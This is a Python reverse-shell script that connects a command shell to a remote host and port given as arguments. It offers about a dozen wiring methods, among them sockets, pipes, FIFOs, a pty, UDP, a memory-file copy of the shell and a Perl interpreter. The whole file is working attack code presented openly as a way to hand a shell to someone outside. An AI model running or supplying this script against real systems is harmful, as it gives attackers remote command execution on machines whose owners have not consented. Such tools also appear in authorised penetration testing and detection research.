# A shell for somebody outside, wired in one of many ways: rev.py HOST PORT WAY [SHELL]
import os, pty, socket, subprocess, sys, threading, time

host, port, way = sys.argv[1], int(sys.argv[2]), sys.argv[3]
shell = sys.argv[4:] or ["/bin/sh"]


def outside(kind=socket.SOCK_STREAM):
    s = socket.socket(socket.AF_INET, kind)
    s.connect((host, port))
    return s


def pump(read, write):
    while True:
        data = read()
        if not data:
            break
        write(data)


def both(s, write, read):
    threading.Thread(target=pump, args=(lambda: s.recv(4096), write), daemon=True).start()
    pump(read, s.sendall)


def on(s, argv=shell, **more):
    subprocess.call(argv, stdin=s, stdout=s, stderr=s, **more)


if way == "direct":
    on(outside())
elif way == "two descriptors":
    a, b = outside(), outside()
    subprocess.call(shell, stdin=a, stdout=b, stderr=b)
elif way == "pipe":
    p = subprocess.Popen(shell, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, bufsize=0)
    both(outside(), p.stdin.write, lambda: p.stdout.read(4096))
elif way == "fifo":
    for f in ("/tmp/in", "/tmp/out"):
        if os.path.exists(f):
            os.unlink(f)
        os.mkfifo(f)
    s = outside()
    subprocess.Popen(shell + ["-c", "exec %s < /tmp/in > /tmp/out 2>&1" % shell[0]])
    w, r = open("/tmp/in", "wb", 0), open("/tmp/out", "rb", 0)
    both(s, w.write, lambda: r.read(4096))
elif way == "pty":
    pid, fd = pty.fork()
    if pid == 0:
        os.execv(shell[0], shell)
    both(outside(), lambda d: os.write(fd, d), lambda: os.read(fd, 4096))
elif way == "unix pair":
    a, b = socket.socketpair()
    subprocess.Popen(shell, stdin=b, stdout=b, stderr=b)
    b.close()
    both(outside(), a.sendall, lambda: a.recv(4096))
elif way == "relay of two processes":
    s = outside()
    p = subprocess.Popen(shell, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, bufsize=0)
    if os.fork() == 0:
        p.stdout.close()
        pump(lambda: s.recv(4096), p.stdin.write)
        os._exit(0)
    p.stdin.close()
    pump(lambda: p.stdout.read(4096), s.sendall)
elif way == "two steps":
    l = socket.socket()
    l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    l.bind(("127.0.0.1", 9017))
    l.listen(1)
    if os.fork() == 0:
        l.close()
        c = socket.create_connection(("127.0.0.1", 9017))
        on(c)
        os._exit(0)
    c, _ = l.accept()
    both(outside(), c.sendall, lambda: c.recv(4096))
elif way == "udp":
    u = outside(socket.SOCK_DGRAM)
    u.send(b"here\n")
    on(u)
elif way == "memory file":
    fd = os.memfd_create("worker")
    os.write(fd, open(os.path.realpath(shell[0]), "rb").read())
    on(outside(), ["/proc/self/fd/%d" % fd], pass_fds=(fd,))
elif way == "listener":
    l = socket.socket()
    l.bind(("0.0.0.0", 0))
    l.listen(1)
    me = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    me.connect((host, port))
    own = me.getsockname()[0]
    if os.fork() == 0:
        c = socket.create_connection((own, l.getsockname()[1]))
        c.sendall(b"id\n")
        time.sleep(3)
        os._exit(0)
    on(l.accept()[0])
elif way == "interpreter":
    on(outside(), ["perl"])
else:
    sys.exit("no way " + way)
